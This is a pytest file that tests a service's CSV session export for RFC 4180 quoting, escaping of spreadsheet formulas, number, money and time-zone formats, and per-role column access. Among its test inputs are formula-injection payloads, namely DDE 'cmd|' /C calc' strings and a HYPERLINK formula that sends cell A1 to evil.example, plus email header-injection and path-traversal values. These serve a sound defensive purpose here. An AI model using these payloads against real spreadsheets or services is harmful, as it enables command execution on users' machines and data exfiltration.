"""The bytes of the file: RFC 4180, texts that a spreadsheet must not read as a formula, money, time zones."""

from collections.abc import Sequence
from datetime import datetime
from time import monotonic
from typing import Any

import httpx
import pytest

from session_graph.access.viewer import Role
from session_graph.exports.csv_columns import escape_after_separators
from session_graph.exports.worker import Worker
from session_graph.store.database import Database
from session_graph.store.models import Account
from session_graph.zones import zone_of
from support.api import Caller, make_caller
from support.records import make_agent, record
from support.reports import (
    REQUEST,
    ask_for_report,
    download,
    finished,
    parse_csv,
    problems_of,
    show_report,
)

pytestmark = pytest.mark.anyio

HEADER = (
    "Date/Time,Session Type,Is Lead,Is Opportunity,Is Test,Contact,Contact Information,External ID,Summary,Lead Value,"
    "ASR,Conversation Rate,ASR Recognition,Auto Assessment,Human Assessment,Conversation Quality,Working Hours,Comment,"
    "Channel,Actual Result,Expected Result,Agent IDN,Units,Integration"
)
HARMLESS = (
    *("plain", "a=1", "1-2", "'=1", "naïve ☕", "a\tb", "", ";a", "+1 415-555-0134"),
    *('a "quoted" word', '"', "a,b", "line\nfeed", "line\r\nend", "lone\rreturn", '",\r\n"'),
)
FORMULAS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x","y")', "-2+3,4", "=a\rb"),
    *("＝1", "＋1", "－1", "＠x", "\u200b=1", "\ufeff=1", "\u200b   -1", "\u200b\u00a0=1", "\u200b\u3000@x"),
    *("\u200d\u2060+1", "\u200b\u2028=1", "\u202d=1", "\u00ad=1", "\u2066=1", "+1 415-555-0134+cmd|' /C calc'!A0"),
    *("+1 2 =1", "+14155550134", "-"),
)


async def owner(client: httpx.AsyncClient, account: Account, role: Role = Role.ADMIN, **limits: Any) -> Caller:
    return await make_caller(client, account, role, {"email": "ana@example.com", **limits})


async def export_csv(client: httpx.AsyncClient, ask: Caller, **fields: Any) -> bytes:
    export_id = await ask_for_report(ask, **fields)
    export = await finished(ask, export_id)
    assert export["status"] == "DONE", export
    return (await download(client, ask, export_id)).content


async def summaries(client: httpx.AsyncClient, ask: Caller, **fields: Any) -> tuple[list[str], bytes]:
    data = await export_csv(client, ask, columns=["SUMMARY", "EXTERNAL_ID"], orderBy=OLDEST_FIRST, **fields)
    return [row["Summary"] for row in parse_csv(data)], data


OLDEST_FIRST = {"field": "STARTED_AT", "direction": "ASC"}


async def record_texts(database: Database, account: Account, texts: Sequence[str]) -> None:
    await make_agent(account)
    await record(
        database,
        account,
        *({"summary": text, "startedAt": f"2026-11-16T15:00:{number:02}Z"} for number, text in enumerate(texts)),
    )


async def test_an_export_without_rows_is_a_header(client: httpx.AsyncClient, account: Account, worker: Worker) -> None:
    data = await export_csv(client, await owner(client, account))

    assert data == b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n"


async def test_text_comes_back_as_it_was(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    await record_texts(database, account, HARMLESS)

    found, data = await summaries(client, await owner(client, account))

    assert found == list(HARMLESS)
    assert data.startswith(b"\xef\xbb\xbfSummary,External ID\r\nplain,\r\na=1,\r\n")
    assert b'"a ""quoted"" word",\r\n"""",\r\n"a,b",\r\n"line\nfeed",\r\n' in data
    assert b'"lone\rreturn",\r\n' in data
    assert data.endswith(b"\r\n")


async def test_a_text_that_a_spreadsheet_reads_as_a_formula_has_one_apostrophe_before_it(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    await record_texts(database, account, FORMULAS)
    ask = await owner(client, account)

    found, _ = await summaries(client, ask)
    plain, _ = await summaries(client, ask, escapeFormulas=False)

    assert found == ["'" + text for text in FORMULAS]
    assert plain == list(FORMULAS)


SEPARATED = {
    "Bob;=cmd|'/C calc'!A0": "Bob;'=cmd|'/C calc'!A0",
    'a;=HYPERLINK("http://evil.example/?"&A1);b': 'a;\'=HYPERLINK("http://evil.example/?"&A1);b',
    "a\t+1": "a\t'+1",
    "a|-1|@x": "a|'-1|'@x",
    "- booked\n- paid\r\n- gone\r+1": "'- booked\n'- paid\r\n'- gone\r'+1",
    "=a\r=b": "'=a\r'=b",
    "a; \u200b\u00a0=1": "a; \u200b\u00a0'=1",
    'a;"=1"': 'a;"\'=1"',
    "a;\n\t=1": "a;\n\t'=1",
    "a;＝1|＋1\t－1\n＠1": "a;'＝1|'＋1\t'－1\n'＠1",
    ";=1": ";'=1",
    "a\n\n\nb": "a\n\n\nb",
    "a; b | c\td\ne": "a; b | c\td\ne",
    "a;1-2": "a;1-2",
    "a,=1": "a,=1",
}


async def test_a_formula_after_a_separator_or_a_line_break_has_an_apostrophe_before_it(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    await record_texts(database, account, list(SEPARATED))
    ask = await owner(client, account)

    found, _ = await summaries(client, ask)
    plain, _ = await summaries(client, ask, escapeFormulas=False)

    assert found == list(SEPARATED.values())
    assert plain == list(SEPARATED)


async def test_the_first_cell_of_a_row_is_not_taken_for_text_after_a_line_break(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    await make_agent(account)
    await record(database, account, {"phone": "+14155550134"}, {"phone": "+14155550135", "summary": "a; b"})

    data = await export_csv(client, await owner(client, account), columns=["PHONE", "SUMMARY"])

    assert sorted(row["Phone"] for row in parse_csv(data)) == ["+1 415-555-0134", "+1 415-555-0135"]


@pytest.mark.parametrize("text", ["\n", "\t\n\r ", "; ", ";", "|", "\n-", ";=", '\n"'])
def test_the_search_for_formulas_takes_time_in_proportion_to_the_text(text: str) -> None:
    rows = (text * (2**20 // len(text))).encode()
    start = monotonic()

    escape_after_separators(rows)

    assert monotonic() - start < 5


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        ("+1 (415) 555-0134", "+1 415-555-0134"),
        ("+44 20 7946 0958", "+44 20-7946-0958"),
        ("(415) 555-0134", "+1 415-555-0134"),
        ("+48 512 345 678", "+48 512-345-678"),
        ("555-0134 ext. 7", "5550134 ext. 7"),
        ("sip:desk@pbx.example", "sip:desk@pbx.example"),
    ],
)
async def test_a_phone_number_is_neither_a_formula_nor_a_number(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, phone: str, cell: str
) -> None:
    await make_agent(account)
    await record(database, account, {"phone": phone, "email": "ana@example.com"})

    (row,) = parse_csv(await export_csv(client, await owner(client, account), columns=["PHONE", "CONTACT_INFORMATION"]))

    assert row == {"Phone": cell, "Contact Information": f"{cell}, ana@example.com"}


@pytest.mark.parametrize("phone", ["112", "0912", "0042", "5550134"])
async def test_digits_alone_have_an_apostrophe(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, phone: str
) -> None:
    await make_agent(account)
    await record(database, account, {"phone": phone})

    (row,) = parse_csv(await export_csv(client, await owner(client, account), columns=["PHONE", "CONTACT_INFORMATION"]))

    assert row == {"Phone": f"'{phone}", "Contact Information": f"'{phone}"}


CHANGED = (
    *("00012345", "1E5", "1e+5", "3/4", "1-2", "1.5", "1,234", "1234567890123456", "12:30", "9 a", "11PM", "5%", "$5"),
    *("MAR1", "1-mar", "Dec 2026", "sept2", "TRUE", "false", "2026-11-28", "-7", ".5", "+14155550134"),
)
UNCHANGED = ("12345", "123456789012345", "CRM-1", "A-77", "5d", "0x1F", "1E5X", "#12", "Marlon", "deal 7", "12 34 b")


@pytest.mark.parametrize(("texts", "mark"), [(CHANGED, "'"), ([*UNCHANGED, "0"], "")], ids=["changed", "same"])
async def test_an_external_id_is_shown_as_it_is(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, texts: Sequence[str], mark: str
) -> None:
    await make_agent(account)
    await record(database, account, *({"externalId": text} for text in texts))
    ask = await owner(client, account)

    rows = parse_csv(await export_csv(client, ask, columns=["EXTERNAL_ID"]))
    plain = parse_csv(await export_csv(client, ask, columns=["EXTERNAL_ID"], escapeFormulas=False))

    assert {row["External ID"] for row in rows} == {mark + text for text in texts}
    assert {row["External ID"] for row in plain} == set(texts)


@pytest.mark.parametrize(
    ("units", "cell"), [("3.704", "3.7040"), ("2.5", "2.50"), ("4", "4"), ("1000", "1000"), ("0.12345", "0.12345")]
)
async def test_no_number_has_exactly_three_decimals(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker, units: str, cell: str
) -> None:
    await make_agent(account, recognition="0.12345")
    await record(database, account, {"units": units})

    (row,) = parse_csv(await export_csv(client, await owner(client, account), columns=["UNITS", "RECOGNITION"]))

    assert row == {"Units": cell, "ASR Recognition": "12.3450%"}


@pytest.mark.parametrize(
    ("currency", "value", "cell"), [("USD", "260", "260.00"), ("JPY", "260.5", "261"), ("KWD", "1.0005", "1.0010")]
)
async def test_money_has_the_decimals_of_its_currency(
    client: httpx.AsyncClient,
    account: Account,
    database: Database,
    worker: Worker,
    currency: str,
    value: str,
    cell: str,
) -> None:
    ask = await owner(client, account)
    await ask("mutation ($c: String!) { updateAccount(input: {currency: $c}) { errors { message } } }", c=currency)
    await make_agent(account)
    await record(database, account, {"leadValue": value})

    (row,) = parse_csv(await export_csv(client, ask))

    assert row["Lead Value"] == cell


async def test_each_kind_of_value_has_its_format(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    await make_agent(account, recognition="0.125")
    await record(
        database,
        account,
        {
            "units": "2.50",
            "tags": ["=x", "b"],
            "utms": {"a": '=1"'},
            "conversationQuality": 4,
            "autoAssessment": "YES_B",
        },
    )
    columns = ["UNITS", "TAGS", "UTMS", "CONVERSATION_QUALITY", "AUTO_ASSESSMENT", "HUMAN_ASSESSMENT", "SESSION_LENGTH"]
    columns += ["CHANNEL", "CONVERSION_RATE", "RECOGNITION", "IS_LEAD", "STARTED_AT", "AGENT"]

    data = await export_csv(client, await owner(client, account), columns=columns)

    assert data.decode("utf-8-sig").split("\r\n")[1] == (
        '2.50,"\'=x, b","{""a"": ""=1\\""""}",4,Yes-B,,Regular,Voice,90%,12.5%,true,2026-11-16 10:00:00,bistro'
    )


async def test_times_are_in_the_requested_zone_or_else_in_the_agents(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    ask = await owner(client, account)
    await make_agent(account)
    before, after = "2026-11-01T05:59:59.999999Z", "2026-11-01T06:00:00Z"
    await record(database, account, *({"startedAt": at, "endedAt": "2026-11-01T07:00:00Z"} for at in (before, after)))

    async def times(**fields: Any) -> tuple[list[str], str]:
        export_id = await ask_for_report(ask, columns=["STARTED_AT"], orderBy=OLDEST_FIRST, **fields)
        label = (await finished(ask, export_id))["timeZone"]
        response = await download(client, ask, export_id)
        as_of = datetime.fromisoformat((await show_report(ask, export_id))["asOf"])
        day = as_of.astimezone(zone_of(account.time_zone if label == "local" else label))
        name = f"sessions-{day:%Y-%m-%d}-{label.replace('/', '-')}.csv"
        assert response.headers["content-disposition"] == f'attachment; filename="{name}"'
        return [row["Date/Time"] for row in parse_csv(response.content)], label

    own = await times()
    asked = await times(timeZone="Asia/Kathmandu")
    await make_agent(account, idn="desk", timeZone="Australia/Lord_Howe")
    await record(database, account, {"agent": "desk", "startedAt": after, "endedAt": "2026-11-01T07:00:00Z"})
    several = await times()

    assert own == (["2026-11-01 01:59:59", "2026-11-01 01:00:00"], "America/New_York")
    assert asked == (["2026-11-01 11:44:59", "2026-11-01 11:45:00"], "Asia/Kathmandu")
    assert several[1] == "local"
    assert sorted(several[0]) == ["2026-11-01 01:00:00", "2026-11-01 01:59:59", "2026-11-01 17:00:00"]


async def test_a_role_gets_the_columns_that_it_may_see(
    client: httpx.AsyncClient, account: Account, database: Database, worker: Worker
) -> None:
    await make_agent(account)
    await record(database, account, {"integration": "crm", "summary": "ours"}, {"integration": "pos", "summary": "no"})
    partner = await owner(client, account, Role.PARTNER, integrations=["crm"])
    portal = await owner(client, account, Role.PORTAL)

    theirs = parse_csv(await export_csv(client, partner))
    portals = parse_csv(await export_csv(client, portal))

    hidden = {"ASR", "Conversation Rate", "ASR Recognition", "Conversation Quality", "Comment"}
    assert list(theirs[0]) == [name for name in HEADER.split(",") if name not in hidden]
    assert [row["Summary"] for row in theirs] == ["ours"]
    assert list(portals[0]) == [
        *("Date/Time", "Session Type", "Is Test", "Contact", "Summary", "ASR", "Conversation Quality", "Comment"),
        *("Channel", "Agent IDN"),
    ]
    assert len(portals) == 2


@pytest.mark.parametrize(
    ("role", "fields"),
    [
        (Role.PARTNER, {"columns": ["ASR"]}),
        (Role.PARTNER, {"orderBy": {"field": "ASR", "direction": "ASC"}}),
        (Role.PARTNER, {"filter": {"not": {"anyOf": [{"tags": ["vip"]}]}}}),
        (Role.PORTAL, {"columns": ["STARTED_AT", "PHONE"]}),
        (Role.PORTAL, {"filter": {"isLead": True}}),
    ],
)
async def test_a_field_that_a_role_may_not_read_is_refused_before_anything_is_queued(
    client: httpx.AsyncClient, account: Account, database: Database, role: Role, fields: dict[str, Any]
) -> None:
    limits = {"integrations": ["crm"]} if role is Role.PARTNER else {}
    ask = await owner(client, account, role, **limits)

    answer = await ask(REQUEST, input=fields)

    assert answer.code == "FORBIDDEN_FIELD"
    assert await database.fetch("select from session_export where account_id = $1", account.id) == []


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"columns": []}, ("INVALID", ["input", "columns"])),
        ({"columns": ["ID", "ID"]}, ("INVALID", ["input", "columns"])),
        ({"columns": ["ID", "TRANSCRIPT"]}, ("INVALID", ["input", "columns", "1"])),
        ({"recipients": []}, ("INVALID", ["input", "recipients"])),
        ({"recipients": ["eve@elsewhere.example"]}, ("INVALID", ["input", "recipients", "0"])),
        (
            {"recipients": ["ana@example.com", "a@b.example\r\nBcc: e@x.example"]},
            ("INVALID", ["input", "recipients", "1"]),
        ),
        ({"recipients": ["ana@example.com"] * 11}, ("LIMIT", ["input", "recipients"])),
        ({"timeZone": "Mars/Olympus"}, ("INVALID", ["input", "timeZone"])),
        ({"timeZone": "../etc"}, ("INVALID", ["input", "timeZone"])),
        ({"idempotencyKey": ""}, ("INVALID", ["input", "idempotencyKey"])),
        ({"idempotencyKey": "x" * 201}, ("INVALID", ["input", "idempotencyKey"])),
        ({"idempotencyKey": "\u0000"}, ("INVALID", ["input", "idempotencyKey"])),
    ],
)
async def test_each_problem_of_a_request_has_its_code_and_path(
    client: httpx.AsyncClient, account: Account, fields: dict[str, Any], problem: tuple[str, list[str]]
) -> None:
    assert await problems_of(await owner(client, account), **fields) == [problem]


async def test_a_wrong_filter_is_refused_at_once(client: httpx.AsyncClient, account: Account) -> None:
    both = {"period": "LAST_7_DAYS", "from": "2026-01-01T00:00:00Z"}

    answer = await (await owner(client, account))(REQUEST, input={"filter": both})

    assert answer.code == "BAD_USER_INPUT"
